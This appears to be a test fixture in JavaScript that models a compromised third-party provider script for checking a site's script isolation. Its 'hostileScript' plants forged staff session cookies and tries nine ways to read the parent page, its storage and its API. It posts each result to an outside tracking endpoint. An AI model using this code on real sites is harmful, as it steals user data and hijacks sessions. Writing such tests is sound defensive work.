/** Attacks of the script; each result is reported under its name. */
const ways = `{
  'text of the page': () => parent.document.body.textContent,
  'address of the page': () => parent.location.href,
  'storage of the site': () => JSON.stringify(parent.localStorage),
  'storage of the tab': () => JSON.stringify(parent.sessionStorage),
  'call by the page': () => parent.fetch('/api/holidays').then((answer) => answer.text()),
  'call of the site': () => fetch(site + '/api/holidays').then((answer) => answer.text()),
  'call of its own host': () => fetch('/api/holidays').then((answer) => answer.text()),
  'page in a frame': () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.addEventListener('load', () => {
      try { resolve(frame.contentDocument.body.textContent); } catch (problem) { reject(problem); }
    });
    frame.src = site + '/tours';
    document.body.append(frame);
  }),
  'another address for the page': () => (top.location = site + '/contact'),
}`;

/** Number of ways that the script tries. */
export const waysTried = (ways.match(/^ {2}'/gm) ?? []).length;

/** A session that the script plants, in every way that might reach a call of the console. */
const planted = 'DEVXCE0000000000.PERS0N0000000000.'.padEnd(77, 's');

/**
 * A compromised provider's script. It plants cookies for the whole domain, tries every way to reach the surrounding page,
 * its storage and the API, and reports each result to the provider's server.
 */
export const hostileScript = `
  const site = location.origin.replace('//m.', '//');
  const domain = new URL(site).hostname;
  for (const name of ['__Host-staff', '__Secure-staff', 'staff-device'])
    for (const path of ['/', '/api/staff', '/api/staff/today'])
      for (const reach of ['', '; domain=' + domain])
        document.cookie = name + '=${planted}; path=' + path + '; secure' + reach;
  const report = (way, result) => fetch('https://www.facebook.com/tr', { method: 'POST', mode: 'no-cors',
    body: JSON.stringify({ way, ...result }) });
  (async () => {
    for (const [way, tryIt] of Object.entries(${ways})) {
      try { await report(way, { gave: String(await tryIt()) }); } catch (problem) { await report(way, { refused: problem.name }); }
    }
  })();
`;
